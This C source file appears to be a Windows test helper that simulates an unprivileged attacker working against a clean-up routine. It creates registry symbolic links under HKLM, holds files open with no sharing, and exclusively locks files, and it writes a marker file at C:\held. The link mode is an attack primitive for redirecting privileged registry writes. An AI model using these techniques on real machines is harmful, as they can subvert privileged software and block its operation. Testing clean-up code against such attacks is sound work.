/* What somebody without rights might try against a clean-up:
   `attack link KEY TARGET`  makes HKLM\KEY a registry link to \Registry\Machine\TARGET;
   `attack hold FILE`        keeps a file open and shares it with nobody, until it is ended;
   `attack lock FILE`        keeps a file locked, until it is ended. */
#include <windows.h>
#include <wchar.h>

static int make_link(const wchar_t *key, const wchar_t *target)
{
    wchar_t full[512] = L"\\Registry\\Machine\\";
    HKEY handle;
    DWORD access = KEY_SET_VALUE | KEY_CREATE_LINK | KEY_WOW64_64KEY;
    LONG code = RegCreateKeyExW(HKEY_LOCAL_MACHINE, key, 0, NULL, REG_OPTION_CREATE_LINK, access, NULL, &handle, NULL);
    if (code) return code;
    wcscat(full, target);
    return RegSetValueExW(handle, L"SymbolicLinkValue", 0, REG_LINK, (const BYTE *)full, wcslen(full) * sizeof(wchar_t));
}

static int hold(const wchar_t *path, BOOL lock)
{
    OVERLAPPED start = {0};
    DWORD share = lock ? FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE : 0;
    HANDLE file = CreateFileW(path, GENERIC_READ | GENERIC_WRITE, share, NULL, OPEN_ALWAYS, 0, NULL);
    if (file == INVALID_HANDLE_VALUE) return GetLastError();
    if (lock && !LockFileEx(file, LOCKFILE_EXCLUSIVE_LOCK | LOCKFILE_FAIL_IMMEDIATELY, 0, ~0u, ~0u, &start)) return GetLastError();
    CloseHandle(CreateFileW(L"C:\\held", GENERIC_WRITE, 7, NULL, CREATE_ALWAYS, 0, NULL));
    Sleep(INFINITE);
    return 0;
}

int wmain(int count, wchar_t **words)
{
    if (count == 4 && !wcscmp(words[1], L"link")) return make_link(words[2], words[3]);
    if (count == 3) return hold(words[2], !wcscmp(words[1], L"lock"));
    return 64;
}
